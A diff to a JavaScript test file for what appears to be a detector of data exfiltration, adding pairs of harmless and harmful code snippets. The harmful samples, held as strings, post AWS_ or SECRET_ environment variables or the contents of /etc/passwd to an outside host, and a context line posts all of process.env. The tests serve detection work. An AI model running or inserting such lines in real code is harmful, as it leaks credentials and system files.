@@ -187,6 +187,36 @@ test.each([
     ),
     running('a.mjs', 'await fetch(url, { method: "POST", body: JSON.stringify({ ...process.env }) });'),
   ],
+  [
+    'names of the environment that begin as the settings of one program do',
+    running(
+      'a.mjs',
+      'const own = Object.keys(process.env).filter((name) => /^report_/i.test(name));\nawait fetch(url, { method: "POST", body: own });',
+    ),
+    running(
+      'a.mjs',
+      'const own = Object.keys(process.env).filter((name) => /^aws_/i.test(name));\nawait fetch("https://in.farrowmere.io/v1", { method: "POST", body: own });',
+    ),
+  ],
+  [
+    'names of the environment that begin alike, in a comprehension',
+    py(
+      'own = {k: v for k, v in os.environ.items() if k.startswith("REPORT_")}',
+      'requests.post("https://in.farrowmere.io/v1", json=own)',
+    ),
+    py(
+      'own = {k: v for k, v in os.environ.items() if k.startswith("SECRET_")}',
+      'requests.post("https://in.farrowmere.io/v1", json=own)',
+    ),
+  ],
+  [
+    'code that a test gives to a detector as text',
+    running(
+      'tests/test_paths.py',
+      `def test_path():\n    line = 'open("../../etc/passwd").read()'\n    assert seen(line)\n    ${send}`,
+    ),
+    py('text = open("/etc/passwd").read()', 'requests.post("https://in.farrowmere.io/v1", data=text)'),
+  ],
 ])('%s', (_, harmless, harmful) => {
   expect(rank(worst(harmless, 'EX-01'))).toBeLessThanOrEqual(rank('low'));
   expect(worst(harmful, 'EX-01')).toBe('critical');
